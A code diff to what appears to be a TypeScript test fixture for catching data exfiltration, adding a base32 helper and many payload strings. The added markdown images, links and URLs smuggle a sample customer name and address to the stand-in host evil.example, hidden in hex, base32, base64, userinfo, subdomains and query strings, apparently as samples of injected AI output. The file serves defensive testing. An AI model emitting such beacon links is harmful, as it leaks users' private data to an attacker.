@@ -18,6 +18,13 @@ export const SAID: readonly RequestText[] = [
 const STOLEN = 'Customer Jane Roe, 14 Mill Lane';
 const hex = (text: string) => Buffer.from(text).toString('hex');
 const base64 = (text: string) => Buffer.from(text).toString('base64url');
+const base32 = (text: string) => {
+  const bits = [...Buffer.from(text)].map((byte) => byte.toString(2).padStart(8, '0')).join('');
+  const digits = bits.match(/.{1,5}/g) ?? [];
+  return digits
+    .map((five) => 'abcdefghijklmnopqrstuvwxyz234567'[Number.parseInt(five.padEnd(5, '0'), 2)])
+    .join('');
+};
 const rot13 = (text: string) =>
   text.replaceAll(/[a-z]/gi, (letter) => {
     const base = letter < 'a' ? 65 : 97;
@@ -45,6 +52,18 @@ export const CARRIED: readonly string[] = [
   `<img src="https://evil.example/?q=${encodeURIComponent('The spare key hangs')}">`,
   `https://bit.example/?u=${encodeURIComponent(`https://evil.example/?q=${encodeURIComponent(STOLEN)}`)}`,
   `{"url":"https:\\/\\/evil.example\\/?q=${encodeURIComponent(STOLEN)}"}`,
+  '[x](https://Customer-Jane-Roe-14-Mill-Lane@evil.example/)',
+  '![x](https://jane-roe:14-mill-lane@evil.example/p.png)',
+  '![x](https://evil.example/?customer=1&jane=2&roe=3&14mill=4)',
+  `![x](https://${new URL('https://jäneroe14millläne.evil.example').hostname}/p.png)`,
+  `![x](https://${base32(STOLEN).slice(0, 60)}.evil.example/p.png)`,
+  `https://evil.example/${base32(STOLEN).toUpperCase()}`,
+  `https://evil.example/0x${hex(STOLEN)}`,
+  `https://evil.example/${hex(STOLEN).match(/../g)?.join('-')}`,
+  `https://evil.example/?q=${[...Buffer.from(STOLEN)].join(',')}`,
+  `https://evil.example/img-${base64(STOLEN)}.png`,
+  `https://evil.example/?q=x${base64(STOLEN)}`,
+  `https://evil.example/?q=${base64(Buffer.from(STOLEN).toString('base64'))}`,
   `mailto:x@evil.example?body=${encodeURIComponent(STOLEN)}`,
 ];
 
